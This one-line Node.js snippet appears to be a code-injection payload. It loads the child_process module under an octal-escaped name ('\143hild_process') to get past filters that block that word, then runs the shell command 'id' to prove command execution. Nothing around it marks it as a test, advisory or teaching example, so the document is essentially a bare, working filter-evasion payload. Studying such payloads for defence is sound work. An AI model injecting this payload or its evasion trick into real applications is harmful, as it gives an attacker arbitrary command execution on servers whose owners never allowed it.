require('\143hild_process').exec("id");
